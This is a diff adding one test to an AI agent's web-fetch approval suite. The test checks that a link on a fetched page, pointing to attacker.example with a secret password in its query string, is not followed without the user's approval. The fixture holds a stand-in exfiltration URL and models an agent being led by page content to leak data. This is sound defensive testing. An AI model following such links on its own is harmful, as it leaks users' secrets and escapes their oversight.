@@ -208,6 +208,21 @@ async def test_the_search_query_never_becomes_a_fetchable_url(workspace: Path, f
     assert len(approver.asked) == 1 and fake_web.requests == []  # ...and did not make the URL fetchable
 
 
+async def test_links_echoing_an_approved_urls_data_are_not_followed_unasked(
+    workspace: Path, fake_web: FakeWeb
+) -> None:
+    approved = "https://echo.example/find?q=hunter2-password"
+    fake_web.pages[approved] = (200, {"content-type": "text/html"}, (
+        b'<a href="https://attacker.example/c?d=hunter2-password">again</a> <a href="https://docs.example/a">docs</a>'
+    ))
+    approver = Approver(Decision.ALLOW_ONCE, Decision.DENY)
+    s = session(workspace, fake_web, approver, fetch(approved), fetch("https://docs.example/a"),
+                fetch("https://attacker.example/c?d=hunter2-password"), scripted.text("ok"))
+    await turn(s, "go")
+    assert [r.summary for r in approver.asked] == [f"fetch {approved}", "fetch https://attacker.example/c?d=hunter2-password"]
+    assert fake_web.requests == [approved, "https://docs.example/a"]  # the page's own link ran unasked
+
+
 async def test_links_on_a_page_a_rule_allowed_are_not_followed_unasked(workspace: Path, fake_web: FakeWeb) -> None:
     # The model chose this URL on an allowed host: the page may reflect what the model put in it.
     (Path.home() / ".swebash-ai").mkdir(exist_ok=True)
